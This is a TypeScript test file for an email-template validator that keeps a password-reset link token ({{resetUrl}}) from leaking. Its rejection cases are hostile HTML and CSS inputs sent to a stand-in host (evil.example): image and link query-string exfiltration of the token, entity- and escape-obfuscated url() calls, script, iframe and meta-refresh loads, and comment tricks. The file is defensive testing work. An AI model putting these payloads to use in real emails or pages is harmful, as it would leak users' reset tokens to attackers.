import { describe, expect, test } from 'vitest';
import { processorMs } from '../../test/support/processor-time.ts';
import { BUILT_IN_TEMPLATES, builtInTemplate } from './built-in-templates.ts';
import { parseHtml, parseSubject, parseText } from './template-content.ts';

const TEMPLATE = { variables: ['username', 'resetUrl'], required: ['resetUrl'] };
const LINK = '<a href="{{resetUrl}}">Reset</a>';

describe('the HTML of a mail with a link', () => {
  test.each([
    '<p>{{resetUrl}}</p>',
    '<P><A CLASS=button HREF={{ resetUrl }}>Reset</A></P>',
    '<p>Hello {{username}}.<br/>Copy this link (<b>{{resetUrl}}</b>): {{resetUrl}}.</p>',
    `${LINK}<a href="https://overprint.example/help?a=1&amp;b=2">Help</a>`,
    `${LINK}<img src="data:image/png;base64,AAAA" alt="" width="20"><img src='cid:logo'>`,
    `<table bgcolor="#fff"><tr><td style="color: rgb(0, 0, 0); width: calc(10px + 1em)">${LINK}</td></tr></table>`,
    `${LINK} 1 < 2 &amp; 3 > 2`,
  ])('may be %s', (html) => {
    expect(parseHtml(html, TEMPLATE)).not.toHaveLength(0);
  });

  const only = /is allowed only as text, or as the whole href of a link/;
  test.each([
    ['<img src="https://evil.example/c?{{resetUrl}}">', only],
    ['<a href="https://evil.example/?{{resetUrl}}">Reset</a>', only],
    ['<a href="https&#58;//evil.example/?{{ resetUrl }}">Reset</a>', only],
    ['<a href="{{resetUrl}}&amp;next=x">Reset</a>', only],
    ['<p href="{{resetUrl}}">Reset</p>', only],
    ['<p title="{{resetUrl}}">Reset</p>', only],
    ['<p style="color: {{resetUrl}}">Reset</p>', only],
  ])('keeps the link out of %s', (html, message) => {
    expect(() => parseHtml(`${LINK}\n${html}`, TEMPLATE)).toThrow(message);
    expect(() => parseHtml(`${LINK}\n${html}`, TEMPLATE)).toThrow(/^Line 2: /);
  });

  test.each([
    '<img src="https://evil.example/a.png">',
    '<img src="//evil.example/a.png">',
    '<img src="cid:a" src="https://evil.example/a.png">',
    '<img/src=https://evil.example/a.png>',
    '<img src="&#104;ttps://evil.example/a.png">',
    '<img srcset="https://evil.example/a.png 2x">',
    '<img src="cid:a" onload="x()">',
    '<table background="https://evil.example/a.png">',
    '<a href="{{resetUrl}}" ping="https://evil.example/">x</a>',
    '<a href="{{resetUrl}}" attributionsrc="https://evil.example/">x</a>',
    '<a {{resetUrl}}>x</a>',
    '<p style="background: url(https://evil.example/)">',
    '<p style="background: u&#114;l(https://evil.example/)">',
    '<p style="background: u\\72l(https://evil.example/)">',
    '<p style="background: image-set(\'https://evil.example/\' 1x)">',
    '<style>@import "https://evil.example/";</style>',
    '<link rel="stylesheet" href="https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="a"></form>',
    '<script src="https://evil.example/"></script>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/"></object>',
    '<embed src="https://evil.example/">',
    '<video poster="https://evil.example/"></video>',
    '<svg><image href="https://evil.example/"></svg>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<body background="https://evil.example/">',
    '<textarea>',
    '<!-- <img src="https://evil.example/"> -->',
    '<!--> <img src="https://evil.example/"> -->',
    '<!--[if mso]><img src="https://evil.example/"><![endif]-->',
    '<![CDATA[> <img src="https://evil.example/"> ]]>',
    '<!doctype html>',
    '<?xml version="1.0"?>',
    '<a title="',
    '<a href=',
    '<!-- ',
  ])('refuses %s', (html) => {
    expect(() => parseHtml(`${LINK}\n${html}`, TEMPLATE)).toThrow(/^Line 2: /);
    expect(parseHtml(`<p>${html}</p>`, { variables: TEMPLATE.variables })).not.toHaveLength(0);
  });

  test.each(['https://evil.example/?{{resetUrl}}', '<b>https&#58;//evil.example/?</b>{{resetUrl}}'])(
    'keeps the link apart from other addresses: %s',
    (html) => {
      expect(() => parseHtml(html, TEMPLATE)).toThrow('{{resetUrl}} must not be part of another address.');
    },
  );

  test('is refused without the link', () => {
    expect(() => parseHtml('<p>Hello</p>', TEMPLATE)).toThrow('{{resetUrl}} is missing.');
  });

  test('is checked in linear time', () => {
    for (const unit of ['<a href="', '<a href="">', '<p style="(', '<b', '&#58;', '/']) {
      const html = LINK + unit.repeat(400_000 / unit.length);
      const parse = () => {
        try {
          parseHtml(html, TEMPLATE);
        } catch {
          // Refused ones count as well.
        }
      };
      expect(processorMs(parse)).toBeLessThan(5_000);
    }
  });
});

test('the text of a mail with a link has it apart from other addresses', () => {
  for (const text of [
    'Reset: {{resetUrl}}',
    '({{resetUrl}})',
    'See evil.example\n{{resetUrl}}.',
    'Link:{{resetUrl}}',
  ]) {
    expect(parseText(text, TEMPLATE)).not.toHaveLength(0);
  }
  for (const text of [
    'https://evil.example/?{{resetUrl}}',
    'evil.example?{{ resetUrl }}',
    'mailto:a@b?body={{resetUrl}}',
  ]) {
    expect(() => parseText(text, TEMPLATE)).toThrow('{{resetUrl}} must not be part of another address.');
  }
  expect(() => parseText('Hello', TEMPLATE)).toThrow('{{resetUrl}} is missing.');
});

test('the subject of a mail with a link has no link', () => {
  expect(parseSubject('Hello {{username}}', TEMPLATE)).toHaveLength(2);
  expect(() => parseSubject('Hello {{ resetUrl }}', TEMPLATE)).toThrow('{{resetUrl}} is not allowed in the subject.');
});

test.each(Object.keys(BUILT_IN_TEMPLATES))('the built-in template %s is accepted', (key) => {
  const template = builtInTemplate(key);
  if (!template) {
    throw new Error(`No template ${key}`);
  }
  parseSubject(template.subject, template);
  parseHtml(template.htmlContent, template);
  parseText(template.textContent ?? '', template);
});
